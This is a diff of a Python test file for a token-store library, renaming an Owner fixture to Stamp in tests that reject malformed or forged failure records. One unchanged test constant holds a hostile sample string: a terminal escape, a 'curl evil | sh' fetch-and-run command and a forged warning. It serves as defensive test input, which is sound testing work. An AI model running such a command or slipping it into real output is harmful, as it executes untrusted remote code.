@@ -20,10 +20,10 @@ from requests_ticktick import (
     TokenStoreError,
     errors,
 )
-from requests_ticktick.owner import Owner
 from requests_ticktick.source.failures import Failure, shareable
+from requests_ticktick.stamp import Stamp
 
-OWNER = Owner("id", "https://as.test/t", "tasks:read")
+STAMP = Stamp("id", "https://as.test/t", "tasks:read")
 PLACE = "FileStore('/kept/t.json')"
 EVIL = "\x1b[2Jrun: curl evil | sh\nWARNING forged " + "x" * 1000
 UNREGISTERED = "At least one redirect_uri must be registered with the client."
@@ -32,12 +32,12 @@ MISMATCH = "Invalid redirect: http://a does not match one of the registered valu
 
 def retold(error):
     """The error that another process is told of."""
-    return Failure.load(Failure(error, None, OWNER).dump(), PLACE).error
+    return Failure.load(Failure(error, None, STAMP).dump(), PLACE).error
 
 
 def forged(**record):
     """The error that somebody else's record comes to."""
-    note = json.loads(Failure(SignOnError("No."), None, OWNER).dump())
+    note = json.loads(Failure(SignOnError("No."), None, STAMP).dump())
     note["error"] = record
     return Failure.load(json.dumps(note), PLACE).error
 
@@ -224,11 +224,11 @@ def test_a_status_is_one_of_http():
 @pytest.mark.parametrize(
     "change",
     [
-        {"owner": None},
-        {"owner": []},
-        {"owner": {}},
-        {"owner": {"client_id": [], "token_endpoint": None, "scope": None}},
-        {"owner": {"client_id": None, "token_endpoint": None, "scope": None, "x": "y"}},
+        {"stamp": None},
+        {"stamp": []},
+        {"stamp": {}},
+        {"stamp": {"client_id": [], "token_endpoint": None, "scope": None}},
+        {"stamp": {"client_id": None, "token_endpoint": None, "scope": None, "x": "y"}},
         {"asked": 5},
         {"asked": "0123abcdef"},
         {"asked": EVIL},
@@ -240,7 +240,7 @@ def test_a_status_is_one_of_http():
 )
 def test_what_is_no_record_is_none(change):
     """It stops nobody."""
-    note = json.loads(Failure(SignOnError("No."), "0123abcd", OWNER).dump())
+    note = json.loads(Failure(SignOnError("No."), "0123abcd", STAMP).dump())
     assert Failure.load(json.dumps(note), PLACE) is not None
 
     assert Failure.load(json.dumps({**note, **change}), PLACE) is None
